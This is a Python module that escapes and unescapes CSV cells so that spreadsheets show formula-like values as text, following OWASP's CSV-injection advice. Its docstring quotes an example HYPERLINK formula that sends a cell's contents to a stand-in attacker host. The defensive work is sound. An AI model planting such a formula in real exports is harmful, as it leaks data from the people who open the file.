"""CSV cells that a spreadsheet shows as text, never runs as a formula.

A partner may name itself `=HYPERLINK("http://evil.example/?x="&A1,"Click")`;
staff open the exported CSV in a spreadsheet, which runs a cell that begins
with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula. OWASP's rule
(CSV injection) is to prefix such a cell with a single quote. The import must
take the quote off again, so that an export imported back changes nothing;
to make that exact, a cell that itself begins with a quote is prefixed too.

    export: a cell that begins with = + - @ tab CR or '  gets one more ' in front
    import: a cell that begins with ' followed by one of those  loses that '

A negative number in plain digits (a longitude such as `-58.38`) is not a
formula and stays a number for the spreadsheet. Every other cell is written
and read as it is. The two maps are inverses: what `escape` writes,
`unescape` reads back, and a hand-written cell such as `'Tis` (a quote before
anything else) is read as it stands. Only CSV is escaped: JSON values are
never run as formulas.
"""

from __future__ import annotations

import re

__all__ = ["escape", "unescape"]

QUOTE = "'"
# What a spreadsheet runs as a formula when a cell begins with it (OWASP).
FORMULA_STARTS = frozenset("=+-@\t\r")
ESCAPED_STARTS = FORMULA_STARTS | {QUOTE}
NEGATIVE_NUMBER = re.compile(r"-[0-9]+(\.[0-9]+)?")


def escape(cell: str) -> str:
    """`cell` as written to a CSV file: a quote in front when a spreadsheet
    would run it, or when it begins with a quote itself."""
    if cell[:1] in ESCAPED_STARTS and not NEGATIVE_NUMBER.fullmatch(cell):
        return QUOTE + cell
    return cell


def unescape(cell: str) -> str:
    """`cell` as read from a CSV file: the quote `escape` added taken off."""
    if cell[:1] == QUOTE and cell[1:2] in ESCAPED_STARTS:
        return cell[1:]
    return cell
